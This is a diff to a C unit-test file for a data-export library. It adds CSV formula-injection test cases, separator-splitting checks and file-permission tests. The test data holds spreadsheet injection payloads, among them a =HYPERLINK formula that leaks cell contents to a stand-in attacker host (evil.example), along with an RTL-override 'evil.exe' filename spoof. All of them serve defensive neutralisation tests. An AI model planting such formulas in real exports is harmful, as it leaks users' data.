@@ -8,6 +8,7 @@
 
 #include <errno.h>
 #include <glib/gstdio.h>
+#include <sys/stat.h>
 #include <json-glib/json-glib.h>
 #include <signal.h>
 #include <string.h>
@@ -37,6 +38,13 @@ static const char * const hostile[] = {
   "ctrl\x01" "char\x1f" "del\x7f",
   "literal _x0041_ escape",
   "Ada Lovelace",
+  /* formulas behind another separator: Excel in many locales splits on ';', others on tab */
+  "Dock 4;=1+1",
+  "Ops\t=2+2",
+  "Desk 9, +3",
+  "Site\n@SUM(A1)",
+  "Room;\"=1+1\"",
+  "Hall;\t-2",
 };
 
 #define N_HOSTILE G_N_ELEMENTS (hostile)
@@ -224,6 +232,26 @@ is_formula_start (char c)
   return c == '=' || c == '+' || c == '-' || c == '@' || c == '\t' || c == '\r';
 }
 
+/* What a cell must read: @value with a single quote before every formula character where a
+ * reader could start a cell (the start, or after , ; tab CR LF and any spaces and quotes). */
+static char *
+expected_cell (const char *value)
+{
+  GString *expected = g_string_new (NULL);
+
+  for (gsize i = 0; value != NULL && value[i] != '\0'; i++)
+    {
+      gsize j = i;
+
+      while (j > 0 && (value[j - 1] == ' ' || value[j - 1] == '"'))
+        j--;
+      if (is_formula_start (value[i]) && (j == 0 || strchr (",;\t\r\n", value[j - 1]) != NULL))
+        g_string_append_c (expected, '\'');
+      g_string_append_c (expected, value[i]);
+    }
+  return g_string_free (expected, FALSE);
+}
+
 static char *
 read_file (const char *path,
            gsize      *length)
@@ -296,17 +324,14 @@ check_csv_round_trip (Fixture  *f,
           const char *cell = record->pdata[c];
           g_autofree char *expected = muster_export_dup_user_text (export, user, columns[c]);
 
+          g_autofree char *neutral = expected_cell (expected);
+
           /* Nothing a spreadsheet would run… */
           g_assert_false (is_formula_start (cell[0]));
-          /* …and nothing lost but the neutralising quote. */
-          if (expected != NULL && is_formula_start (expected[0]))
-            {
-              g_assert_cmpint (cell[0], ==, '\'');
-              g_assert_cmpstr (cell + 1, ==, expected);
-              neutralised++;
-            }
-          else
-            g_assert_cmpstr (cell, ==, expected != NULL ? expected : "");
+          /* …and nothing lost but the neutralising quotes. */
+          g_assert_cmpstr (cell, ==, neutral);
+          if (g_strcmp0 (neutral, expected != NULL ? expected : "") != 0)
+            neutralised++;
         }
     }
   /* The hostile set did reach the neutralisation. */
@@ -349,8 +374,8 @@ test_csv_values (Fixture       *f,
   /* Exactly what a spreadsheet user sees in a few well-known cells. */
   row = records->pdata[1];
   g_assert_cmpstr (row->pdata[0], ==, "'" "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")");
-  g_assert_cmpstr (row->pdata[1], ==, "'+1 555 0101; =HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")");
-  g_assert_cmpstr (row->pdata[2], ==, "Office 365 E5; =Power BI Pro");
+  g_assert_cmpstr (row->pdata[1], ==, "'+1 555 0101; '=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")");
+  g_assert_cmpstr (row->pdata[2], ==, "Office 365 E5; '=Power BI Pro");
   g_assert_cmpstr (row->pdata[3], ==, "user0@contoso.example");
   row = records->pdata[1 + 7];
   g_assert_cmpstr (row->pdata[0], ==, "The \"Boss\"");
@@ -359,6 +384,96 @@ test_csv_values (Fixture       *f,
   /* The raw text: quotes doubled, the RTL override kept byte for byte. */
   g_assert_nonnull (strstr (text, "\"The \"\"Boss\"\"\""));
   g_assert_nonnull (strstr (text, "\r\n\xE2\x80\xAE" "evil.exe,"));
+}
+
+/* A reader that splits every line on , ; or tab and ignores quotes (Excel in a locale whose list
+ * separator is ';', a paste into a sheet, a shell script), and one that also strips the spaces
+ * and quotes around a field, must find no cell that starts with = + - @. */
+static void
+check_split_cells (const char *text,
+                   char        separator,
+                   gboolean    lenient)
+{
+  g_auto(GStrv) lines = g_strsplit_set (text, "\r\n", -1);
+  guint checked = 0;
+
+  for (guint l = 0; lines[l] != NULL; l++)
+    {
+      g_autofree char *sep = g_strndup (&separator, 1);
+      g_auto(GStrv) fields = g_strsplit (lines[l], sep, -1);
+
+      for (guint i = 0; fields[i] != NULL; i++)
+        {
+          const char *field = fields[i];
+
+          if (lenient)
+            while (*field == ' ' || *field == '"')
+              field++;
+          if (strchr ("=+-@", field[0]) != NULL && field[0] != '\0')
+            g_error ("splitting on “%c” gives the cell “%s” in line “%s”", separator, field, lines[l]);
+          checked++;
+        }
+    }
+  g_assert_cmpuint (checked, >, 0);
+}
+
+static void
+test_csv_other_separators (Fixture       *f,
+                           gconstpointer  data)
+{
+  g_autoptr(MusterExport) export = make_export (MUSTER_EXPORT_FORMAT_CSV);
+  g_autofree char *path = NULL;
+  g_autofree char *text = NULL;
+  gsize length;
+
+  muster_export_set_csv_filter_row (export, TRUE);
+  path = export_to_file (f, export, "separators.csv");
+  text = read_file (path, &length);
+  g_assert_nonnull (strstr (text, "Dock 4;'=1+1"));
+  g_assert_nonnull (strstr (text, "Ops\t'=2+2"));
+
+  for (guint lenient = 0; lenient < 2; lenient++)
+    {
+      check_split_cells (text, ',', lenient);
+      check_split_cells (text, ';', lenient);
+      check_split_cells (text, '\t', lenient);
+    }
+}
+
+/* Exports are personal data: a new file is the user's alone whatever the umask, and a file
+ * that is replaced keeps the mode it had. */
+static void
+test_file_modes (Fixture       *f,
+                 gconstpointer  data)
+{
+  MusterExportFormat formats[] = { MUSTER_EXPORT_FORMAT_CSV, MUSTER_EXPORT_FORMAT_JSON, MUSTER_EXPORT_FORMAT_XLSX };
+  mode_t old_umask = umask (022);
+
+  for (guint i = 0; i < G_N_ELEMENTS (formats); i++)
+    {
+      g_autoptr(MusterExport) export = make_export (formats[i]);
+      g_autofree char *fresh_name = g_strdup_printf ("fresh-%u", i);
+      g_autofree char *shared_name = g_strdup_printf ("shared-%u", i);
+      g_autofree char *fresh = NULL, *shared = NULL, *contents = NULL;
+      GStatBuf info;
+
+      if (!muster_export_format_is_available (formats[i]))
+        continue;
+      fresh = export_to_file (f, export, fresh_name);
+      g_assert_cmpint (g_stat (fresh, &info), ==, 0);
+      g_assert_cmpuint (info.st_mode & 07777, ==, 0600);
+
+      shared = g_build_filename (f->dir, shared_name, NULL);
+      g_assert_true (g_file_set_contents (shared, "old", -1, NULL));
+      g_assert_cmpint (g_chmod (shared, 0640), ==, 0);
+      g_free (export_to_file (f, export, shared_name));
+      g_assert_cmpint (g_stat (shared, &info), ==, 0);
+      g_assert_cmpuint (info.st_mode & 07777, ==, 0640);
+      /* and it was replaced */
+      g_assert_true (g_file_get_contents (shared, &contents, NULL, NULL));
+      g_assert_cmpstr (contents, !=, "old");
+    }
+  umask (old_umask);
 }
 
 static void
@@ -1011,6 +1126,8 @@ main (int argc, char **argv)
   ADD ("/export/csv/bom", test_csv_bom, 0);
   ADD ("/export/csv/values", test_csv_values, 0);
   ADD ("/export/csv/filter-row", test_csv_filter_row, 0);
+  ADD ("/export/csv/other-separators", test_csv_other_separators, 0);
+  ADD ("/export/file-modes", test_file_modes, 0);
   ADD ("/export/json/round-trip", test_json_round_trip, 0);
   ADD ("/export/xlsx/sheet", test_xlsx, 0);
   ADD ("/export/groups", test_groups, 0);
